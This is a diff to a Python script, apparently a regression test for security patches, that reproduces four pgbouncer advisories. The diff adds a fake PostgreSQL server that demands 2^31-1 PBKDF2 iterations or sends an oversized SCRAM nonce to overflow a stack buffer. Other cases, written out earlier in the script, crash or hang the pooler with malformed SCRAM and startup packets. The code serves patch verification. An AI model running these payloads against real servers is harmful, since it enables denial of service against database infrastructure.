@@ -1,14 +1,20 @@
 #!/usr/bin/env python3
 """The unauthenticated requests of pgbouncer's advisories that our patches fix.
 
-usage: pgbouncer-cves.py CASE HOST PORT USER DATABASE
+usage: pgbouncer-cves.py CASE HOST PORT USER DATABASE [SERVER_PORT]
 
-CASE is one of:
+CASE is one of (the server-* cases play a malicious PostgreSQL server on 127.0.0.1:SERVER_PORT,
+where pgbouncer's DATABASE must point, and log in through pgbouncer to make it connect there):
 - scram-final-without-nonce (CVE-2026-19888): starts a SCRAM-SHA-256 exchange as a client would,
   then answers the server-first-message with `c=biws,p=<32 random bytes>` and no `r=`. pgbouncer
   before 1.26.0 passed the missing nonce to strlen() and died of SIGSEGV.
 - empty-option-name (CVE-2026-107349): a startup packet whose `options` is `-c=`. pgbouncer before
   1.26.1, with ignore_startup_parameters set (ours is by default), spun for ever on it.
+- server-iterations (CVE-2026-6669): the server asks for 2^31-1 PBKDF2 iterations. pgbouncer
+  before 1.26.0 ran them all on its one event loop, minutes in which no client was served.
+- server-long-nonce (CVE-2026-6665, the part of upstream pull request #1505): the server's nonce
+  makes the client-final-message 480 bytes before its proof, and the proof's 44 bytes of base64
+  were written past pgbouncer's 512-byte stack buffer (the stack protector aborts it).
 
 Prints what the server answered to the request: "error: <its message>", "closed" (the connection
 ended without an answer, as when the pooler crashed), "no answer" (nothing within 5 s, as when it
@@ -19,6 +25,7 @@ import os
 import socket
 import struct
 import sys
+import threading
 
 
 def message(kind: bytes, body: bytes) -> bytes:
@@ -90,14 +97,64 @@ def scram_final_without_nonce(sock: socket.socket, user: str, database: str) -> 
     return 0
 
 
-CASES = {"scram-final-without-nonce": scram_final_without_nonce, "empty-option-name": empty_option_name}
+def scram_server(listener: socket.socket, iterations: int, nonce_len: int) -> None:
+    """Answers one connection as a PostgreSQL server offering SCRAM with these parameters."""
+    conn, _ = listener.accept()
+    with conn:
+        conn.settimeout(30)
+        while True:  # an SSLRequest first (pgbouncer's sslmode prefer), refused, then the startup
+            head = read_exactly(conn, 8)
+            if head is None:
+                return
+            length, code = struct.unpack("!II", head)
+            read_exactly(conn, length - 8)
+            if code != 80877103:
+                break
+            conn.sendall(b"N")
+        conn.sendall(message(b"R", struct.pack("!I", 10) + b"SCRAM-SHA-256\0\0"))
+        reply = read_message(conn)
+        if reply is None:
+            return
+        client_first = reply[1].split(b"\0", 1)[1][4:]
+        client_nonce = client_first.split(b"r=", 1)[1]
+        nonce = client_nonce + b"x" * max(1, nonce_len - len(client_nonce))
+        salt = base64.b64encode(os.urandom(16))
+        conn.sendall(message(b"R", struct.pack("!I", 11) + b"r=" + nonce + b",s=" + salt + b",i=" + str(iterations).encode()))
+        read_message(conn)
+        conn.sendall(message(b"E", b"SFATAL\0C28P01\0Mpassword authentication failed\0\0"))
+
+
+def through_server(iterations: int, nonce_len: int):
+    def case(sock: socket.socket, user: str, database: str) -> int:
+        server = threading.Thread(target=scram_server, args=(LISTENER, iterations, nonce_len), daemon=True)
+        server.start()
+        startup(sock, user, database)
+        while True:
+            got = answer(sock)
+            if not got.startswith("answered"):
+                print(got)
+                return 0
+    return case
+
+
+CASES = {
+    "scram-final-without-nonce": scram_final_without_nonce,
+    "empty-option-name": empty_option_name,
+    "server-iterations": through_server(2**31 - 1, 24),
+    # "c=biws,r=" + 468 + ",p=" is 480 bytes: the old check passed it, the proof did not fit
+    "server-long-nonce": through_server(4096, 468),
+}
+LISTENER = None
 
 
 def main() -> int:
-    if len(sys.argv) != 6 or sys.argv[1] not in CASES:
-        print(f"usage: pgbouncer-cves.py {{{'|'.join(CASES)}}} HOST PORT USER DATABASE", file=sys.stderr)
+    global LISTENER
+    if len(sys.argv) not in (6, 7) or sys.argv[1] not in CASES or sys.argv[1].startswith("server-") != (len(sys.argv) == 7):
+        print(f"usage: pgbouncer-cves.py {{{'|'.join(CASES)}}} HOST PORT USER DATABASE [SERVER_PORT]", file=sys.stderr)
         return 2
     case, host, port, user, database = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
+    if len(sys.argv) == 7:
+        LISTENER = socket.create_server(("127.0.0.1", int(sys.argv[6])))
     try:
         sock = socket.create_connection((host, port), timeout=5)
     except OSError:
